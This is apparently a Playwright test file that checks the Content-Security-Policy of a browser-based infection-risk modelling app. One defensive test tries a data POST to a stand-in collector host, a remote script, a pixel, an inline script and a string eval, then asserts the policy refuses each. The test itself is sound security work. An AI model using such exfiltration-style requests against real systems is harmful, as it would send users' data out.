import { readFileSync } from 'node:fs';
import { test as plain, type Page } from '@playwright/test';
import { makeXlsx, type XCell } from '../tests/fixtures/bad-input/xlsxWriter';
import { expect, test } from './guard';

/**
 * The served build under its Content-Security-Policy (the <meta> that vite.config.ts adds at build time).
 * A refused load prints a console error, so the guard's "no console error" also means "no policy violation";
 * the page additionally counts `securitypolicyviolation` events from its first line.
 */
const recordViolations = (page: Page) =>
  page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);

/**
 * A deflated workbook whose sheet part is over 512 KB unpacked, imported under the policy the engine worker runs
 * under (the workbook reader in src/io inflates it with DecompressionStream in the engine worker itself; the
 * unzipper of the read-excel-file library it replaced started a blob: worker for parts this size).
 */
function bigWorkbook(rows = 20_000): Buffer {
  const sheet: XCell[][] = [['case_id', 'ward', 'age', 'infected']];
  for (let i = 0; i < rows; i++)
    sheet.push([i + 1, `W${1 + (i % 5)}`, 40 + ((i * 7919) % 50), i % 9 === 0 ? 'yes' : 'no']);
  return Buffer.from(makeXlsx([{ name: 'Cases', rows: sheet }], true));
}

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([k, ...v]) => [k, v]),
  );
}

test('the page carries a policy that allows no connection, no eval and no inline script', async ({ page }) => {
  await page.goto('/');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const d = directives(policy ?? '');
  expect(d.get('default-src')).toEqual(["'none'"]);
  expect(d.get('connect-src')).toEqual(["'none'"]);
  expect(d.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(d.get('worker-src')).toEqual(["'self'", 'blob:']);
  expect(d.get('object-src')).toEqual(["'none'"]);
  expect(d.get('base-uri')).toEqual(["'none'"]);
  expect(policy).not.toContain("'unsafe-eval'");
  expect(policy).not.toMatch(/https?:|\*/);
});

test('the whole demo flow, bootstrap validation and the PDF run under the policy without a single violation', async ({
  page,
}) => {
  await recordViolations(page);
  await page.goto('/');
  await page.getByRole('button', { name: /Surgical-site infections/ }).click();
  await expect(page.getByTestId('odds-table')).toBeVisible({ timeout: 30_000 });
  await page.getByRole('button', { name: 'Risk curve & loss' }).click();
  await expect(page.getByText('Predicted risk against one predictor')).toBeVisible();
  await page.getByRole('button', { name: 'Discrimination & calibration' }).click();
  await expect(page.getByTestId('metrics')).toBeVisible();
  await page.getByLabel('Bootstrap resamples').fill('20');
  await page.getByRole('button', { name: 'Run bootstrap validation' }).click();
  await expect(page.getByTestId('corrected-auc')).toBeVisible({ timeout: 60_000 });
  await page.getByRole('button', { name: 'Cut-off & costs' }).click();
  await expect(page.getByTestId('tp')).toBeVisible();
  await page.getByRole('button', { name: 'Score & validate' }).click();
  await page.getByRole('button', { name: 'Predict the risk' }).click();
  await expect(page.getByTestId('score-result')).toContainText('Predicted risk');

  const download = page.waitForEvent('download', { timeout: 60_000 });
  await page.getByRole('button', { name: 'Download the model summary (PDF)' }).click();
  const pdf = readFileSync(await (await download).path());
  expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');

  await page.getByRole('button', { name: 'Data & roles' }).click();
  await expect(page.getByRole('grid', { name: 'Data rows' })).toBeVisible();
  expect(await violations(page)).toEqual([]);
});

test('a large Excel workbook imports under the policy (its unzipper starts a nested blob: worker)', async ({
  page,
}) => {
  await recordViolations(page);
  await page.goto('/');
  await page.getByTestId('file-input').setInputFiles({
    name: 'cases.xlsx',
    mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    buffer: bigWorkbook(),
  });
  await expect(page.getByText('20,000 rows × 4 columns')).toBeVisible({ timeout: 60_000 });
  expect(await violations(page)).toEqual([]);
});

plain('the policy refuses a connection, a remote image, a remote or injected script and eval', async ({ page }) => {
  const outside: string[] = [];
  page.on('response', (r) => {
    if (!r.url().startsWith('http://127.0.0.1')) outside.push(r.url());
  });
  await recordViolations(page);
  await page.goto('/');
  await expect(page.getByRole('button', { name: /Surgical-site infections/ })).toBeVisible();
  const probe = await page.evaluate(async () => {
    let fetchFailed = false;
    try {
      await fetch('https://collector.example.com/upload', { method: 'POST', body: 'x' });
    } catch {
      fetchFailed = true;
    }
    try {
      await fetch('/index.html');
    } catch {
      /* same origin is refused as well */
    }
    new Image().src = 'https://images.example.com/pixel.png';
    const remote = document.createElement('script');
    remote.src = 'https://cdn.example.com/lib.js';
    document.head.append(remote);
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true';
    document.head.append(inline);
    // Code given to page.evaluate itself is exempt from the policy; a string timer runs later as page code.
    (setTimeout as (code: string, ms: number) => number)('window.__evalRan = true', 0);
    await new Promise((r) => setTimeout(r, 500));
    const w = window as unknown as { __inlineRan?: boolean; __evalRan?: boolean };
    return { fetchFailed, inlineRan: w.__inlineRan === true, evalRan: w.__evalRan === true };
  });
  expect(probe).toEqual({ fetchFailed: true, inlineRan: false, evalRan: false });
  // Unique by directive and address: the preview also sends the policy as a header, and each policy reports.
  const refused = [...new Set(await violations(page))].map((v) => v.split(' ')[0]).sort();
  expect(refused).toEqual([
    'connect-src',
    'connect-src',
    'img-src',
    'script-src',
    'script-src-elem',
    'script-src-elem',
  ]);
  expect(outside).toEqual([]);
});

plain('the engine worker runs under the policy too: it can neither connect nor eval', async ({ page }) => {
  await page.goto('/');
  await expect.poll(() => page.workers().length).toBeGreaterThanOrEqual(1);
  const probe = await page.workers()[0].evaluate(probeWorker);
  expect(probe).toEqual({
    sameOrigin: 'refused',
    blob: 'refused',
    evalRan: false,
    refused: ['connect-src', 'script-src'],
  });
});

/**
 * Runs inside the worker. A same-origin and a blob: fetch would succeed without the policy (connect-src 'none'
 * refuses both); a string timer is page code (code given to evaluate itself is exempt from the policy).
 */
async function probeWorker() {
  const refused: string[] = [];
  self.addEventListener('securitypolicyviolation', (e) =>
    refused.push((e as SecurityPolicyViolationEvent).effectiveDirective),
  );
  const attempt = (url: string) =>
    fetch(url).then(
      () => 'fetched',
      () => 'refused',
    );
  const sameOrigin = location.protocol.startsWith('http') ? await attempt('/index.html') : 'refused';
  const blob = await attempt(URL.createObjectURL(new Blob(['x'])));
  (setTimeout as (code: string, ms: number) => number)('self.__evalRan = true', 0);
  await new Promise((r) => setTimeout(r, 300));
  return {
    sameOrigin,
    blob,
    evalRan: (self as unknown as { __evalRan?: boolean }).__evalRan === true,
    refused: [...new Set(refused)].sort(),
  };
}
